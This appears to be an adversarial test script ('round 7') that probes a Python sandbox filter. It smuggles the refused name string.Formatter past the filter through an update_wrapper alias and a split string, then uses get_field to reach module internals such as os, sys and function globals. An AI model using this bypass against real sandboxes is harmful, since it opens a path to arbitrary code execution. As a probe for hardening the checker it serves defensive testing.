# adversary round 7: string.Formatter (refused name) fetched via update_wrapper alias; get_field returns objects, but its getattr is a library call with a handed name (check_value expected to refuse modules)
import functools, string, random, typing
uw = functools.update_wrapper
box = {}
class C:
    def __setattr__(self, k, v):
        box[k] = v
uw(C(), string, ('Form' + 'atter',), ())
F = box['Form' + 'atter']()
for field in ['0._os', '0.sys', '0.cast.__globals__', '0._urandom']:
    try:
        obj, _ = F.get_field(field, (random if 'o' in field[:4] or 'ur' in field else typing,), {})
        print('got', field, type(obj))
    except Exception as e:
        print('refused', field, type(e).__name__, e)
